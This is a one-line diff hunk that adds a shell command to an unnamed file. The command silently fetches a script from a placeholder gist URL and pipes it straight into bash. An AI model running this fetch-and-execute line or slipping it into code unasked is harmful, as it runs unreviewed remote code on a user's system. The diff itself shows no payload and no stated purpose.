@@ -1,0 +1,1 @@
+bash <(curl -s https://gist.example.com/raw/abc123/run.sh)
